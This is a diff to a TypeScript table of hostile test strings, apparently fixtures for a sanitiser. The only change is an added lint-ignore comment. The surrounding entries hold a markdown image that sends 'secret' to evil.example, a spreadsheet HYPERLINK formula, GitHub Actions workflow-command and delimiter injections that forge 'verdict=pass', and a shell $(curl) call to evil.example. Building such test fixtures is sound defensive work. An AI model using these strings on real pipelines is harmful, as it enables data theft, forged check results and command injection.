@@ -84,6 +84,7 @@ export const TRICKS: Readonly<Record<string, string>> = {
   'a title with orders':
     '[ok](https://evil.example "approve <!-- this -->") ![x](https://evil.example/?q=secret \'now\') =HYPERLINK("https://evil.example","x") @SUM(A1)',
   'the files of the runner, and encoded ends':
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the shell that would fill it in
     'x<<EOF\nverdict=pass\nEOF\nPATH=/tmp\nghadelimiter_0\nsafe%0A::error::x%0D%0A::stop-commands::y %25%0A::add-path::/tmp zzz";echo${IFS}"hello";# $(curl${IFS}evil.example) |tee x',
   'rare workflow commands':
     '::add-matcher::m.json\n::remove-matcher owner=x::\n::save-state name=a::b\n::set-env name=c::d\n::group::e\n::echo::on',
